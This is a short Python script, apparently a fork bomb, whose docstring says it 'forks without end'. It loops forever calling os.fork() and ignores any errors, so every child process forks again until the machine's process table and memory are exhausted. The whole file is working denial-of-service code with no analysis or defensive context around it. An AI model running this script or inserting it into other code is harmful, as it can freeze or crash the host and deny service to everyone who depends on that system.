"""Forks without end: every child does the same."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
